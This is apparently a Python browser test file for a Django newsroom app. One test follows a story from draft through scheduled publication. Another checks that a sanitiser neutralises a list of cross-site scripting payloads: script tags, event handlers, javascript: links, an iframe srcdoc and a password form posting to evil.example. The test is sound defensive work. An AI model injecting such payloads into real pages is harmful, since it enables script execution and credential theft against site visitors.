"""The desk in Debian's Chromium: the newsroom's day from draft to live page, and
what the sanitiser leaves of a hostile body."""

import re
from datetime import timedelta

import pytest
from django.utils import timezone

from dateline.news import actions
from dateline.news.models import Section, Story

from .conftest import PASSWORD

pytestmark = [pytest.mark.browser]


@pytest.fixture
def newsroom_desk(transactional_db, people):
    world = actions.save_section(Section(name="World", slug="world"))
    from dateline.news.models import Author

    Author.objects.create(name="Connie Writer", slug="connie-writer")
    return world


def sign_in(browser, base, user):
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    page.errors = []
    page.on("pageerror", lambda e: page.errors.append(str(e)))
    page.goto(base + "/desk/")
    page.get_by_label("User name").fill(user)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(base + "/desk/")
    return context, page


def test_a_contributor_writes_an_editor_schedules_and_readers_see_it_on_time(browser, live_server, newsroom_desk):
    base = live_server.url
    writer_ctx, writer = sign_in(browser, base, "connie")
    writer.get_by_role("link", name="New story").first.click()
    writer.get_by_label("Headline").fill("Ferry returns to the Halden Islands after ten years")
    writer.get_by_label("Standfirst").fill("The island ferry sails again from Monday.")
    writer.get_by_label("Authors").fill("Connie Writer")
    writer.get_by_label("Section").select_option(label="World")
    body = writer.get_by_role("textbox", name="Body")
    body.click()
    body.type("The ferry left the harbour at dawn with forty passengers aboard.")
    writer.keyboard.press("Enter")
    writer.keyboard.type("Islanders lined the quay to watch it arrive.")
    writer.get_by_role("button", name="Save draft").click()
    writer.wait_for_url(re.compile(r"/desk/\d+/$"))
    assert "Draft saved." in writer.content()
    story = Story.objects.get(headline__startswith="Ferry returns")
    assert story.owner.username == "connie" and "<p>" in story.body and "Islanders lined the quay" in story.body
    writer.get_by_role("button", name="Send for review").click()
    writer.wait_for_load_state()
    assert "Sent for review." in writer.content()
    assert writer.get_by_role("button", name="Publish now").count() == 0
    assert writer.errors == []
    writer_ctx.close()

    editor_ctx, editor = sign_in(browser, base, "eddie")
    editor.get_by_label("Status").select_option("review")
    editor.get_by_role("button", name="Filter").click()
    editor.get_by_role("link", name=story.headline).click()
    at = timezone.localtime() + timedelta(seconds=12)  # room for a slow, loaded machine
    editor.get_by_label("Publish at").fill(at.strftime("%Y-%m-%dT%H:%M:%S"))
    editor.get_by_role("button", name="Schedule").click()
    editor.wait_for_load_state()
    assert "Scheduled for" in editor.content()
    assert editor.errors == []

    reader = browser.new_page()
    reader.goto(base + "/world/")
    assert timezone.now() < at, "the machine was too slow to see the story before its time"
    assert reader.get_by_role("link", name=story.headline).count() == 0
    assert reader.goto(base + story.get_absolute_url()).status == 404
    while timezone.now() < at + timedelta(seconds=1):
        reader.wait_for_timeout(250)
    reader.goto(base + "/world/")
    reader.get_by_role("link", name=story.headline).click()
    assert reader.locator("h1").inner_text() == story.headline
    assert "By Connie Writer" in reader.locator(".story__meta").inner_text()
    reader.close()
    editor_ctx.close()


HOSTILE = (
    '<p>Safe start.</p>'
    '<script>window.__pwned = "script"</script>'
    '<img src="/nope.png" onerror="window.__pwned = \'onerror\'" alt="x">'
    '<p onmouseover="window.__pwned = \'hover\'" style="position:fixed;inset:0;background:red">Hover me</p>'
    '<a href="javascript:window.__pwned=\'link\'">Click me</a>'
    '<svg><script>window.__pwned = "svg"</script></svg>'
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'
    '<style>body { display: none }</style>'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<p><b>Unclosed <i>tags'
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'
)


def test_a_hostile_body_renders_without_running_anything(browser, live_server, newsroom_desk, people, client):
    client.force_login(people["contributor"])
    story = actions.create_story(headline="Hostile copy", section=newsroom_desk, by=people["contributor"])
    from .test_permissions import form_for

    assert client.post(f"/desk/{story.pk}/", form_for(story, body=HOSTILE)).status_code == 302
    story = actions.publish_story(Story.objects.get(pk=story.pk))
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(live_server.url + story.get_absolute_url())
    body = page.locator(".story__body")
    body.get_by_text("Hover me").hover()
    body.get_by_text("Click me").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None and dialogs == []
    assert page.locator("body").is_visible() and body.get_by_text("Safe start.").is_visible()
    assert page.locator(".story__body script, .story__body iframe, .story__body form, .story__body style").count() == 0
    style = page.evaluate("getComputedStyle(document.querySelector('.story__body p:nth-of-type(2)')).position")
    assert style != "fixed"
    page.close()
